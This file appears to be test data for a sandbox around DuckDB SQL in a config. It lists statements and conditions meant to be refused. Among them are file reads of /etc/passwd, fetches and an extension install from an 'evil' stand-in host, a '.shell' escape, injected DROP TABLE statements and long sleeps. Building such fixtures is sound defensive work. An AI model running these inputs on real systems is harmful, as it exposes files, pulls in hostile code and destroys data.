"""Ways out of the SQL of a config, by someone who knows DuckDB, one a line."""

# Refused as they are parsed: other files, addresses, settings, extensions, macros, statements, catalogs, Python.
SELECTS = """
FROM read_csv(getenv('HOME'))
FROM read_csv('a.csv'::VARCHAR)
FROM read_csv(concat('a','.csv'))
FROM read_csv(['a.csv', 'b' || '.csv'])
FROM read_csv([x for x in ['a.csv']])
FROM read_csv(['a.csv']::VARCHAR[])
FROM range(1) t(x), LATERAL read_csv(x)
FROM range(1) t(x), read_csv(t.x)
SELECT * FROM (VALUES ('/etc/passwd')) v(f), read_text(f)
FROM query('FROM read_text(''/etc/passwd'')')
FROM query_table('secret.csv')
FROM query_table(['secret.csv'])
SELECT unnest(query_table) FROM x
FROM parquet_metadata('a.parquet')
FROM parquet_schema('a.parquet')
FROM parquet_kv_metadata('a.parquet')
FROM read_duckdb('x.db', table_name='y')
FROM duckdb_logs()
FROM duckdb_logs_parsed('x')
FROM enable_logging(storage_path='x')
FROM enable_profiling(save_location='x')
FROM create_external_resource('x')
FROM register_external_resource_type('x')
FROM test_all_types()
FROM histogram('secret.csv','x')
FROM histogram_values('secret.csv','x')
FROM summary('x')
FROM pandas_scan(1)
FROM arrow_scan(1,2,3)
FROM python_map_function('x')
FROM seq_scan('x')
FROM repeat_row(1, num_rows=10)
FROM checkpoint()
FROM force_checkpoint()
FROM which_secret('s3://x','s3')
FROM sniff_csv('x.csv')
FROM icu_calendar_names()
FROM pg_timezone_names()
FROM pragma_version()
FROM json_execute_serialized_sql(json_serialize_sql('select 1'))
FROM read_single_csv_file('x')
FROM main.read_csv('x')
FROM system.read_csv('x')
FROM duckdb_settings
FROM pg_catalog.pg_settings
FROM pg_settings
FROM sqlite_master
FROM information_schema.tables
FROM temp.information_schema.columns
FROM df
FROM con
FROM globals
FROM "http://evil/x.csv"
FROM "s3://x/y.parquet"
FROM 'hf://datasets/x/y.parquet'
FROM 'HTTP://evil/x.csv'
FROM 'file:///etc/passwd.csv'
FROM 'gcs://x.parquet'
FROM read_csv('https:' || '//x')
FROM read_csv('https:/'||'/x')
SUMMARIZE 'x.csv'
DESCRIBE 'x.csv'
FROM (DESCRIBE 'x.csv')
FROM (SHOW ALL TABLES)
SHOW TABLES
EXPLAIN ANALYZE SELECT 1
FROM (EXPLAIN SELECT 1)
TABLE secret
PREPARE v AS SELECT 1
EXECUTE v
DEALLOCATE v
SET VARIABLE x = 1
RESET x
USE x
BEGIN
VACUUM
CHECKPOINT
CREATE MACRO f() AS TABLE FROM read_text('/etc/passwd')
CREATE TEMP VIEW x AS SELECT 1
CREATE SECRET (TYPE s3)
DROP VIEW log
ALTER TABLE log ADD COLUMN x INT
INSERT INTO log VALUES (1)
UPDATE log SET x=1
DELETE FROM log
MERGE INTO log USING x ON true WHEN MATCHED THEN DELETE
TRUNCATE log
COMMENT ON TABLE log IS 'x'
COPY log FROM 'x'
COPY FROM DATABASE a TO b
IMPORT DATABASE 'x'
DETACH x
UPDATE EXTENSIONS
FORCE INSTALL httpfs FROM 'http://evil'
INSTALL 'evil.duckdb_extension'
.shell ls
\\! ls
SELECT 1;;;SELECT 2
SELECT 1 /* ; */ ; DROP TABLE log
SELECT $a$ ; $a$; DROP TABLE log
SELECT getvariable('x')
SELECT current_setting('x')
SELECT current_query()
SELECT write_log('x')
SELECT sleep_ms(100000)
SELECT pg_sleep(100)
SELECT json_serialize_plan('x')
SELECT * FROM 'x.csv' t MATCH_RECOGNIZE ()
SELECT * FROM 'x.xlsx'
SELECT * FROM 'x.db'
SELECT * FROM 'x.duckdb'
SELECT * FROM "x.csv; DROP TABLE log"
\uff26\uff32\uff2f\uff2d read_csv('x')
FROM read_csv('x.csv', sample_size=getvariable('x'))
FROM read_csv(?)
FROM read_csv($1)
FROM read_csv($name)
FROM read_csv(:name)
SELECT ?
PIVOT 'x.csv' ON a
SELECT 1 INTO OUTFILE 'x'
SELECT 1 INTO x
FROM glob('/etc/*')
FROM '/etc/passwd'
""".strip().splitlines()

# The same as conditions over one event.
CONDITIONS = """
true; ATTACH 'x.db'
true) UNION ALL (SELECT 1
(SELECT true)
EXISTS(SELECT 1)
1 IN (FROM range(3))
a = ANY(SELECT 1)
a = ALL(FROM read_text('/etc/passwd'))
(FROM query('select 1')) = 1
(TABLE secret) = 1
(VALUES (true))
a IN (VALUES (1))
ARRAY(SELECT 1) = [1]
[x for x in (SELECT [1])] = [1]
list_transform([1], x -> (SELECT 1))[1] = 1
CASE (SELECT 1) WHEN 1 THEN true END
coalesce((SELECT true), true)
CAST((SELECT 'true') AS BOOLEAN)
a BETWEEN 1 AND (SELECT 2)
sum(a) OVER () > 0
row_number() OVER () = 1
first(a) = 1
list(a) IS NULL
string_agg(a) = 'x'
unnest([1]) = 1
generate_subscripts([1], 1) = 1
unnest({'a': 1}) = 1
random() > 0
gen_random_uuid() IS NULL
uuid() IS NULL
uuidv7() IS NULL
now() > DATE '2024-01-01'
today() > DATE '2024-01-01'
get_current_time() IS NULL
transaction_timestamp() IS NULL
current_timestamp IS NULL
localtimestamp IS NULL
current_user = 'x'
user = 'x'
session_user = 'x'
current_schema = 'x'
current_catalog IS NULL
current_database() = 'x'
current_schemas(true) IS NULL
current_query() = 'x'
current_query_id() = 1
current_connection_id() = 1
current_transaction_id() = 1
txid_current() = 1
nextval('x') = 1
currval('x') = 1
setval('x', 1) = 1
setseed(0.5) IS NULL
getvariable('x') = 1
current_setting('threads') = '1'
in_search_path('x', 'y')
pg_get_viewdef(1) = 'x'
pg_postmaster_start_time() IS NULL
format_type(1, 2) = 'x'
get_block_size('x') = 1
sleep_ms(100000) IS NULL
pg_sleep(1) IS NULL
write_log('x') IS NULL
json_serialize_plan('SELECT 1') = 'x'
error('x') IS NULL
age(a) > INTERVAL 1 DAY
ago(INTERVAL 1 DAY) > a
__internal_barrier(a) = 1
__cast(a, 'INT') = 1
main.now() IS NULL
system.main.random() = 1
pg_catalog.current_setting('x') = 'y'
a.random() = 1
'x'.getvariable() = 1
"now"() IS NULL
NOW () IS NULL
nOw/**/() IS NULL
COLUMNS(*) = 1
COLUMNS('a') = 1
COLUMNS(x -> true) = 1
*COLUMNS(*)
* EXCLUDE (a)
log.*
?
$1 = 1
$x = 1
:x = 1
a = 1 QUALIFY true
a = 1 USING SAMPLE 10%
a = 1 ORDER BY a
a = 1 LIMIT 1
a = 1 OFFSET 1
a = 1 GROUP BY a
a = 1 HAVING true
a = 1 UNION SELECT 1
a = 1 INTO x
a = 1 -- \\n; DROP TABLE log
a = 1 /*
a = 1 */
a = 1 #
;
true true
true, false
a = 'x
a = $$x
a = $t$x$T$
a = E'\\'
"a
(a = 1
a = 1)
a = 1) OR (true
a = 1 FROM log
a = 1 FROM read_text('/etc/passwd')
DISTINCT a
PIVOT log ON a
SUMMARIZE log
DESCRIBE log
SHOW TABLES
COPY log TO 'x'
INSTALL x
PRAGMA x
SET x = 1
CALL x()
EXPLAIN SELECT 1
a := 1
struct_pack(a := (SELECT 1)).a = 1
MAP {'a': (SELECT 1)} IS NULL
{'a': (FROM range(1))} IS NULL
try(nextval('x')) = 1
CAST(a AS ENUM(SELECT 'x'))
a::ENUM(FROM read_text('/etc/passwd') SELECT content) IS NULL
a::STRUCT(x INT DEFAULT (SELECT 1))
a IS DISTINCT FROM (SELECT 1)
NOT EXISTS (FROM 'x.csv')
DEFAULT
""".strip("\n").splitlines()
